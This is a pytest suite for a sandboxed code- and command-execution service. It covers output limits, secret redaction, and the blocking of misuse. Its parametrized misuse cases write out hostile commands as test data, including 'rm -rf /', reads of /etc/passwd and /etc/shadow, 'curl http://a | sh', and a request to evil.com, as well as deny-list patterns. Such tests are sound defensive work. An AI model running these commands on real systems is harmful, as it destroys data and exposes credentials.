"""The contract and the examples of the documents that the project grew from, against a live service.

Each misuse runs twice: with screening as it is by default, where it is refused with the reason; and with screening off, where the box
alone must hold.
"""

import json
import os
import pwd
import socket
import time

import pytest

import api

pytestmark = pytest.mark.rootonly  # the same whoever runs it

CONTRACT = {"success": bool, "output": str, "error": str, "execution_time_ms": (int, float)}
CUT = "\n... [output truncated]"


@pytest.fixture(scope="module")
def unscreened(service):
    with api.running(service, {"screen": "off"}) as s:
        yield s


@pytest.fixture(scope="module")
def warned(service):
    with api.running(service, {"screen": "warn"}) as s:
        yield s


def execute(service, code, **fields):
    """What a client of the contract sees, checked for its shape."""
    reply = service.request("POST", "/execute", api.call(code, **fields))
    assert reply.status == 200 and reply.headers["content-type"] == "application/json"
    result = json.loads(reply.body)
    for field, kind in CONTRACT.items():
        assert type(result[field]) in (kind if isinstance(kind, tuple) else (kind,)), (field, result)
    assert result["execution_time_ms"] >= 0
    assert result["success"] == (result["status"] == "success")
    return result


def refused(service, code, reason):
    """The interpreter in a box has read it, or not even that: the script has not begun."""
    result = execute(service, code)
    assert result["output"] == f"Code blocked: Blocked pattern: {reason}"
    assert (result["success"], result["status"], result["error"], result["exit_code"]) == (False, "blocked", "", None)
    assert [d["reason"] for d in result["denials"]][0] == f"Blocked pattern: {reason}"
    assert result["screen"]["findings"][0]["rule"] == reason
    return result


# --- what is allowed ---


def test_the_first_example(service):
    result = execute(service, "print(2 + 2)")
    assert (result["success"], result["output"], result["error"], result["exit_code"]) == (True, "4\n", "", 0)
    assert result["execution_time_ms"] > 0


def test_safe_code(service):
    assert execute(service, "import math; print(math.sqrt(16))")["output"] == "4.0\n"


def test_exactly_the_two_fields(service):
    """As the documents' own clients send it, byte for byte."""
    body = b'{"tool_name": "execute_code", "code": "print(2 + 2)"}'
    reply = service.request("POST", "/execute", body, {"Content-Type": "application/json"})
    assert {field: json.loads(reply.body)[field] for field in ("success", "output", "error")} == {"success": True, "output": "4\n", "error": ""}


def test_a_program_that_fails(service):
    result = execute(service, "print('before'); raise ValueError('why')")
    assert (result["success"], result["status"], result["exit_code"], result["output"]) == (False, "error", 1, "before\n")
    assert "ValueError: why" in result["error"]


def test_listing_the_root(service):
    """os.listdir is no threat in a box: it shows the box."""
    names = execute(service, "import os; print(os.listdir('/'))")["output"]
    assert "sandbox" in names and not {"home", "root", "sys", "boot", "var", "run"} & set(eval(names))  # noqa: S307


# --- limits ---


def test_infinite_loop(service):
    start = time.monotonic()
    result = execute(service, "while True: pass", limits={"timeout_seconds": 1})
    assert (result["success"], result["status"], result["was_killed"], result["kill_reason"]) == (False, "timeout", True, "timeout")
    assert result["exit_code"] is None and result["execution_time_ms"] >= 1000
    assert result["error"] == "Execution timed out"  # the seeds' words, for whoever knows only their four fields
    assert time.monotonic() - start < 20


def test_memory(service):
    """256 MB by default."""
    assert execute(service, "x = b'x' * (128 << 20); print(len(x))")["success"]
    result = execute(service, "x = b'x' * (512 << 20); print(len(x))")
    assert (result["status"], result["was_killed"], result["kill_reason"]) == ("resource_exceeded", True, "memory")
    assert result["output"] == "" and result["enforced"]["limits"]["max_memory_mb"] == 256
    assert result["error"].endswith("Execution exceeded its memory limit")


def test_long_output(service):
    assert execute(service, "print('x' * 4999)")["output"] == "x" * 4999 + "\n"
    result = execute(service, "print('x' * 5000)")
    assert result["output"] == "x" * 5000 + CUT and result["truncated"]
    result = execute(service, "import sys; sys.stderr.write('y' * 20000)")
    assert (result["error"], result["output"]) == ("y" * 5000 + CUT, "")
    assert result["truncated"] and result["resource_usage"]["stderr_bytes"] == 20000


def test_long_output_of_long_characters(service):
    """10 000 bytes are kept; no character is cut in two."""
    result = execute(service, "print('€' * 4000)")
    assert result["output"] == "€" * 3333 + CUT and result["truncated"]
    result = execute(service, "print('€' * 6000)", limits={"max_output_bytes": 100000})
    assert result["output"] == "€" * 5000 + CUT


def test_output_flood(service):
    result = execute(service, "import sys\nfor _ in range(50): sys.stdout.write('x' * 1000000)")
    assert result["success"] and result["output"] == "x" * 5000 + CUT
    assert result["resource_usage"]["stdout_bytes"] == 50_000_000


# --- misuse ---


@pytest.mark.parametrize(
    "code, reason",
    [
        ("import subprocess; subprocess.run(['ls'])", "subprocess execution"),
        ("import os; os.system('rm -rf /')", "OS command execution"),
        ("import shutil; shutil.rmtree('/')", "filesystem modification"),
        ("import socket; s = socket.socket()", "network socket access"),
        ("import requests; requests.get('http://evil.com')", "HTTP requests"),
        ("import urllib.request", "URL access"),
        ("__import__('os')", "dynamic import"),
        ("eval('1')", "dynamic code execution"),
        ("open('x', 'w')", "file write access"),
        ("p = '/etc/passwd'; f = open(p)", "system file access"),
    ],
)
def test_each_pattern(service, code, reason):
    assert any(f["rule"] == reason for f in refused(service, code, reason)["screen"]["findings"])


# Every alternative of the documents' ten patterns, and the same by other names, where a pattern sees nothing.
EACH = {
    "subprocess execution": ["import subprocess\n" + f"subprocess.{f}(['ls'])" for f in ("run", "call", "Popen", "check_output")] + ["from subprocess import run as r\nr(['ls'])"],
    "OS command execution": ["import os\n" + f"os.{f}('ls')" for f in ("system", "popen", "execv", "spawnv")] + ["import os as o\no.system('ls')", "import os\ngetattr(os, 'system')('ls')"],
    "filesystem modification": [f"import shutil\nshutil.{f}('a', 'b')" for f in ("rmtree", "move")] + ["from shutil import rmtree\nrmtree('a')"],
    "network socket access": ["import socket\nsocket.create_connection(('a', 1))", "from socket import socket\nsocket()"],
    "HTTP requests": [f"import requests\nrequests.{f}('http://a')" for f in ("get", "post", "put", "delete")],
    "URL access": ["import urllib.request", "from urllib.request import urlopen"],
    "dynamic import": ["__import__('os')", "import builtins\nbuiltins.__import__('os')"],
    "dynamic code execution": ["eval('1')", "exec('1')", "e = eval\ne('1')", "print(f'{eval(\"1\")}')"],
    "file write access": [f"open('f', '{mode}')" for mode in "wax"] + ["open('f', mode='w')", "open('f', 'r+')"],
    "system file access": [f"open('/{where}/x')" for where in ("etc", "proc", "sys")],
}


@pytest.mark.rootonly
@pytest.mark.parametrize("reason, code", [(reason, code) for reason, codes in EACH.items() for code in codes])
def test_each_alternative(service, reason, code):
    refused(service, code, reason)


@pytest.mark.rootonly
@pytest.mark.parametrize(
    "code",
    [
        "# os.system('ls'), eval(x), open('f', 'w')\nprint('ran')",
        "text = 'subprocess.run(x) and requests.get(y)'\nprint('ran')",
        "class A:\n    def system(self, x): return x\nos = A()\nprint(os.system('ran'))",
        "import re\nprint(re.compile('r.n').search('ran')[0])",
        "websocket = lambda: 0\nretrieval = [1]\nprint('ran')",
        "try:\n    open('data.csv')\nexcept FileNotFoundError:\n    print('ran')",
        "def evaluate(x): return x\nprint(evaluate('ran'))",
    ],
)
def test_harmless_code_that_looks_like_it(service, code):
    """The documents' patterns refuse most of these; the syntax tree does not."""
    result = execute(service, code)
    assert (result["status"], result["output"], result["screen"]["findings"]) == ("success", "ran\n", []), result


def test_blocked_code_does_not_run(service):
    before = api.metrics(service)
    id_ = refused(service, "import os; os.system('rm -rf /')", "OS command execution")["id"]
    records = service.request("GET", f"/v1/executions/{id_}").json()["records"]
    assert [r["kind"] for r in records] in (["intent", "outcome"], ["intent", "launch", "outcome"])  # by a pattern, or by the interpreter
    assert records[-1]["record"]["status"] == "blocked"
    assert [d["reason"] for d in records[-1]["record"]["denials"]] == ["Blocked pattern: OS command execution"]
    assert [(f["rule"], f["line"], f["action"]) for f in records[-1]["record"]["findings"]] == [("OS command execution", 1, "block")]
    after = api.metrics(service)
    assert api.executed(after)["blocked"] == api.executed(before)["blocked"] + 1


def test_warning_only(warned):
    result = execute(warned, "import os; print(os.system('true'))")
    assert result["success"] and result["output"] == "0\n"
    (finding,) = result["screen"]["findings"]
    assert (finding["rule"], finding["line"], finding["action"]) == ("OS command execution", 1, "warn") and finding["reason"]
    assert result["denials"] == []


@pytest.mark.parametrize("options", ["", " --no-preserve-root"])
def test_destroying_everything(unscreened, tmp_path, options):
    canary = tmp_path / "canary"
    canary.write_text("alive")
    result = execute(unscreened, f"import os; print(os.system('rm -rf{options} / 2>/dev/null'))", limits={"timeout_seconds": 2})
    assert result["screen"]["findings"] == [] and result["enforced"]["network"] == "none"
    assert canary.read_text() == "alive" and os.path.exists("/etc/passwd") and os.path.exists("/usr/bin/env")
    assert execute(unscreened, "print('still here')")["output"] == "still here\n"


def test_reading_passwd(service, unscreened):
    code = "with open('/etc/passwd', 'r') as f: print(f.read())"
    findings = refused(service, code, "system file access")["screen"]["findings"]
    assert [(f["rule"], f["line"]) for f in findings] == [("system file access", 1)]  # and no writing, which the seeds' pattern saw in it
    shown = execute(unscreened, code)
    users = {line.split(":")[0] for line in shown["output"].split()}
    theirs = {p.pw_name for p in pwd.getpwall()}
    assert shown["success"] and "sandbox" in users
    assert users & theirs <= {"root", "nobody"}


def test_reading_other_files(unscreened, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("hidden")
    secret.chmod(0o644)
    for path in [str(secret), "/etc/shadow", "/root", "/home", "/proc/1/environ", "/sys"]:
        result = execute(unscreened, f"import os\np = {path!r}\nprint(os.listdir(p) if os.path.isdir(p) else open(p).read())")
        assert not result["success"] and "hidden" not in result["output"], path


def test_writing_a_file(service, unscreened):
    refused(service, "open('out.txt', 'w').write('x')", "file write access")
    code = "open('out.txt', 'w').write('kept'); print(open('out.txt').read()); import os; print(os.getcwd())"
    assert execute(unscreened, code)["output"] == "kept\n/sandbox\n"
    for path in ["/usr/x", "/etc/x", "/x", "/bin/x"]:
        result = execute(unscreened, f"open({path!r}, 'w')")
        assert not result["success"] and ("Read-only" in result["error"] or "Permission" in result["error"]), result["error"]
    # Nothing of one call is there in the next.
    assert "FileNotFoundError" in execute(unscreened, "open('out.txt')")["error"]


@pytest.mark.parametrize(
    "code, reason",
    [
        ("import socket\nsocket.create_connection(('127.0.0.1', PORT), 5)", "network socket access"),
        ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/', timeout=5)", "URL access"),
        ("import http.client\nc = http.client.HTTPConnection('127.0.0.1', PORT, timeout=5); c.request('GET', '/')", None),
    ],
)
def test_network(service, unscreened, code, reason):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        code = code.replace("PORT", str(listener.getsockname()[1]))
        if reason:
            refused(service, code, reason)
        result = execute(unscreened, code)
        assert not result["success"] and "Error" in result["error"]
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_environment(unscreened, monkeypatch):
    """Keys of the service's environment are not the box's."""
    result = execute(unscreened, "import os; print(sorted(os.environ))")
    assert result["output"] == "['HOME', 'LANG', 'LOGNAME', 'PATH', 'SHELL', 'TMPDIR', 'USER']\n"


# --- secrets in output ---


@pytest.mark.parametrize(
    "printed, shown",
    [
        ("File at /home/user/data.txt, server at 192.168.1.1", "File at [HOME_DIR]/data.txt, server at [IP_ADDR]"),
        ("password = hunter2", "[REDACTED_SECRET]"),
        ("SECRET: s3cr3t end", "[REDACTED_SECRET] end"),
        ("api_key=abc, token: def", "api_[REDACTED_SECRET] [REDACTED_SECRET]"),
        ("saved /tmp/tmpab12/x", "saved [TEMP_DIR]/x"),
        ("10.0.0.1 and 10.0.0.2", "[IP_ADDR] and [IP_ADDR]"),
        ("nothing to see", "nothing to see"),
    ],
)
@pytest.mark.parametrize("stream", ["output", "error"])
def test_secrets(service, printed, shown, stream):
    file = {"output": "sys.stdout", "error": "sys.stderr"}[stream]
    result = execute(service, f"import sys; print({printed!r}, file={file})")
    assert result[stream] == shown + "\n"
    assert result["redactions"] == shown.count("[")


def test_sanitising_comes_before_cutting(service):
    """A secret over the place of the cut leaves no half of it."""
    result = execute(service, "print('x' * 4990 + ' 192.168.100.200')")
    assert result["output"] == "x" * 4990 + " [IP_ADDR]"[:10] + CUT
    result = execute(service, "print('x' * 9995 + ' password=hunter2')")
    assert "hunter" not in result["output"]


def test_sanitising_off(start_service):
    assert start_service({"sanitise": False}).execute("print('10.0.0.1')")["output"] == "10.0.0.1\n"


# --- the documents' own client code ---


def test_as_the_seeds_integrate_it(service):
    """`result.stdout or "(no output)"`, and the response model that failed on blocked code."""
    assert execute(service, "pass")["output"] == ""
    blocked = execute(service, "import subprocess; subprocess.call('ls')")
    assert {k: blocked[k] for k in CONTRACT} == {"success": False, "output": blocked["output"], "error": "", "execution_time_ms": blocked["execution_time_ms"]}


def test_statuses_are_counted(service):
    before = api.executed(api.metrics(service))
    execute(service, "print(1)")
    execute(service, "raise SystemExit(1)")
    after = api.executed(api.metrics(service))
    assert (after["success"] - before["success"], after["error"] - before["error"]) == (1, 1)


# --- commands ---

PROGRAMS = {
    "ls": ("ls", ""),
    "cat": ("cat in", "b 2\na 1\na 1\n"),
    "head": ("head -n 1 in", "b 2\n"),
    "tail": ("tail -n 1 in", "a 1\n"),
    "wc": ("cat in | wc -l", "3\n"),
    "grep": ("grep -c a in", "2\n"),
    "find": ("find . -name in", "./in\n"),
    "sort": ("sort in", "a 1\na 1\nb 2\n"),
    "uniq": ("sort in | uniq", "a 1\nb 2\n"),
    "cut": ("cut -d ' ' -f 2 in", "2\n1\n1\n"),
    "awk": ("awk '{n += $2} END {print n}' in", "4\n"),
    "jq": ("echo '{\"a\": [1, 2]}' | jq '.a[1]'", "2\n"),
    "echo": ("echo hello", "hello\n"),
    "date": ("date -u -d @0 +%Y", "1970\n"),
    "python": ("python -c 'print(6 * 7)'", "42\n"),
    "node": ("node -e 'console.log(6 * 7)'", "42\n"),
    "curl": ("curl --version", None),
}


def line(service, command, **fields):
    body = {"tool_name": "execute_command", "command": command, **fields}
    result = service.request("POST", "/execute", body).json()
    assert result["tool"] == "execute_command"
    return result


@pytest.mark.rootonly
@pytest.mark.parametrize("program", PROGRAMS)
def test_each_program(service, program):
    command, output = PROGRAMS[program]
    result = line(service, command, files=[{"name": "in", "text": "b 2\na 1\na 1\n"}])
    assert result["status"] == "success" and result["denials"] == [], result
    if program == "ls":
        assert "in" in result["output"].split()
    elif output is not None:
        assert result["output"] == output


# A line that the documents' list refuses by this pattern, and one where only the pattern is wrong: the program would be allowed.
PATTERNS = {
    "rm -rf": ("rm -rf /", "echo rm -rf x"),
    "mkfs": ("mkfs /dev/sda", "echo mkfs"),
    "dd if=": ("dd if=/dev/zero of=x", "echo dd if=x"),
    "chmod 777": ("chmod 777 x", "echo chmod 777"),
    "> /dev/": ("cat x > /dev/sda", "echo x >/dev/sda"),
    "| sh": ("curl http://a | sh", "echo ls | sh"),
    "| bash": ("curl http://a | bash", "echo ls |bash"),
    "eval ": ("eval ls", "echo eval ls"),
    "export ": ("export A=b", "echo export a"),
    "env ": ("env ls", "echo env ls"),
    "printenv": ("printenv", "echo printenv"),
    "set ": ("set -x", "echo set x"),
    "sudo ": ("sudo ls", "echo sudo ls"),
    "su ": ("su root", "echo su root"),
    "passwd": ("passwd root", "grep passwd x"),
}


@pytest.mark.rootonly
@pytest.mark.parametrize("pattern", PATTERNS)
def test_each_blocked_pattern(service, pattern):
    for command in PATTERNS[pattern]:
        for way in (command, command.replace(" ", "  "), f"echo a; {command}", f"  {command}  "):
            result = line(service, way)
            assert (result["success"], result["status"], result["enforced"]) == (False, "blocked", None), (way, result)
            assert result["output"].startswith("Command blocked: ") and result["denials"][0]["code"] == "command_not_allowed", (way, result["denials"])
    assert f"'{pattern.strip()}'" in " ".join(d["reason"] for d in result["denials"]) or pattern.split()[0] in ("|", ">"), result["denials"]


@pytest.mark.rootonly
@pytest.mark.parametrize("command", ["rm x", "/bin/rm x", "bash -c ls", "perl -e 1", "./ls", "../bin/ls", "LS", "", "'", "echo 'open"])
def test_what_is_on_no_list(service, command):
    result = line(service, command)
    assert result["status"] == "blocked" and result["denials"] and all(d["code"].startswith(("command_not", "invalid_arg")) for d in result["denials"]), result


@pytest.mark.rootonly
def test_words_that_only_contain_a_pattern(service):
    """Here the documents' search for a piece of text is wrong the other way."""
    for command in ("echo reset all", "echo issue done", "echo passwords", "echo dataset x"):
        assert line(service, command)["status"] == "success", command
